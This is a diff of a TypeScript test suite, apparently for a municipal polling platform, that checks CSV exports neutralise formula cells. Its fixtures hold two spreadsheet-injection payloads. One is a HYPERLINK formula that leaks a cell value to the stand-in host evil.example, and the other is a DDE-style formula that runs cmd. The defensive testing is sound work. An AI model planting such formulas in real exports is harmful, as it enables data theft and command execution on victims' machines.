@@ -12,7 +12,7 @@ import type { Otklik } from '../../main.js';
 import { eventually, loginAs, startTestSystem } from '../support.js';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Дороги")';
-const NEGATIVE_FORMULA = '-2+3+cmd|\' /C calc\'!A0';
+const NEGATIVE_FORMULA = "-2+3+cmd|' /C calc'!A0";
 
 const csvRows = async (res: Response): Promise<string[][]> => {
   expect(res.status).toBe(200);
@@ -26,9 +26,12 @@ const csvRows = async (res: Response): Promise<string[][]> => {
 describe('CSV exports neutralize formula cells', () => {
   let system: Otklik;
   let token: string;
-  const staff = (method: string, path: string, body?: unknown) => fetch(`${system.url}${path}`, {
-    method, headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) }, body: body ? JSON.stringify(body) : undefined,
-  });
+  const staff = (method: string, path: string, body?: unknown) =>
+    fetch(`${system.url}${path}`, {
+      method,
+      headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) },
+      body: body ? JSON.stringify(body) : undefined,
+    });
 
   beforeAll(async () => {
     system = await startTestSystem({}, ['workflow', 'analytics', 'dashboard']);
@@ -74,8 +77,11 @@ describe('CSV exports neutralize formula cells', () => {
 
   it('poll results as CSV', async () => {
     const created = await staff('POST', '/api/v1/polls', {
-      title: 'Какое общественное пространство благоустроить?', description: 'Проверка выгрузки.', municipalities: ['город Красноярск'],
-      liveResults: true, questions: [{ kind: 'single', text: NEGATIVE_FORMULA, options: [FORMULA, '+7 913 000-00-00', 'Сквер на Мира'] }],
+      title: 'Какое общественное пространство благоустроить?',
+      description: 'Проверка выгрузки.',
+      municipalities: ['город Красноярск'],
+      liveResults: true,
+      questions: [{ kind: 'single', text: NEGATIVE_FORMULA, options: [FORMULA, '+7 913 000-00-00', 'Сквер на Мира'] }],
     });
     expect(created.status, await created.clone().text()).toBe(201);
     const poll = (await created.json()) as { id: string };
